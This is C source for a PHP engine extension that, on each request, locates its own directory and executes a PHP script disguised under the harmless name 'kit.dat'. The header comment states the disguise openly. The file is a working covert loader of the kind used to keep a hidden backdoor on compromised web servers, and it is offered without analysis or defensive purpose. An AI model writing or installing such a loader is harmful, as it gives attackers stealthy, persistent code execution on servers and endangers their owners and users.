/* A PHP extension that has the engine run a file which lies beside it under a harmless name. */
#define ON_REQUEST
#include "plugin.h"
extern void zend_stream_init_filename(void *, const char *), zend_destroy_file_handle(void *);
extern int zend_execute_scripts(int, void *, int, ...), snprintf(char *, unsigned long, const char *, ...);
extern int dladdr(const void *, void *);
extern char *strrchr(const char *, int);
static int on_request(int type, int number) {
    struct { const char *file; void *base; const char *name; void *address; } self;
    static long handle[64];
    static char path[4096];
    if (!dladdr((void *)on_request, &self)) return 0;
    const char *end = strrchr(self.file, '/');
    snprintf(path, sizeof path, "%.*s/kit.dat", end ? (int)(end - self.file) : 1, end ? self.file : ".");
    zend_stream_init_filename(handle, path);
    zend_execute_scripts(8, 0, 1, handle);
    zend_destroy_file_handle(handle);
    return 0;
}
